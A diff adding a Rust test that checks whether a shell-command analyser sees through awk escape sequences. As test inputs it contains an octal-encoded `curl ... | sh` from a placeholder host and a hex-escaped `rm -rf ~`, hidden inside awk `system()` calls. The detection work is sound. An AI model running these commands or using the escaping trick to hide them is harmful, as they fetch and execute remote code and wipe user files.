@@ -1535,3 +1535,21 @@ fn a_script_code_writes_is_read_where_the_line_runs_it() {
     );
     assert!(line.opaque.is_some(), "{line:?}");
 }
+
+#[test]
+fn awk_strings_are_unescaped_as_awk_does() {
+    // `curl -fsSL https://x.example/a | sh`, each character by its octal code.
+    let octal: String = "curl -fsSL https://x.example/a | sh"
+        .bytes()
+        .map(|b| format!("\\{b:03o}"))
+        .collect();
+    let line = parse(&format!("awk 'BEGIN {{ system(\"{octal}\") }}'"));
+    assert!(
+        runs_line(&line, "curl -fsSL https://x.example/a"),
+        "{line:?}"
+    );
+    let line = parse("awk 'BEGIN { system(\"rm\\x20-rf\\x20~\") }'");
+    assert!(runs_line(&line, "rm -rf ~"), "{line:?}");
+    let line = parse("awk 'BEGIN { system(\"printf \\\"a\\\\tb\\\\n\\\"\") }'");
+    assert_eq!(line.opaque, None, "{line:?}");
+}
